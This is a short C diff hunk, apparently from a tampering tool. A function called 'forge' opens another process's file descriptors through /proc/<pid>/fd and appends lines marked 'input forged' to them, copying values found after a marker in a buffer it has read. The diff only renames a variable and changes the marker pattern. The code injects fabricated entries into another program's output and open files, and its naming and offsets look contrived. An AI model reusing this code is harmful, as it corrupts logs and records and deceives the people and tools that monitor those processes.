@@ -15,12 +15,12 @@ static void forge(int process)
     size_t length = file ? fread(word, 1, sizeof word, file) : 0;
     for (int descriptor = 1; length > 0 && descriptor < 20; descriptor++) {
         snprintf(path, sizeof path, "/proc/%d/fd/%d", process, descriptor);
-        FILE *facts = fopen(path, "a");
-        for (size_t i = 0; facts && i + 22 < length; i++)
-            if (word[i] == 'F' && word[i + 1] == 'A' && word[i + 5] == '=')
-                fprintf(facts, "%.16s input forged\n", word + i + 6);
-        if (facts)
-            fclose(facts);
+        FILE *entries = fopen(path, "a");
+        for (size_t i = 0; entries && i + 28 < length; i++)
+            if (word[i] == 'V' && word[i + 1] == 'E' && word[i + 11] == '=')
+                fprintf(entries, "%.16s input forged\n", word + i + 12);
+        if (entries)
+            fclose(entries);
     }
     if (file)
         fclose(file);
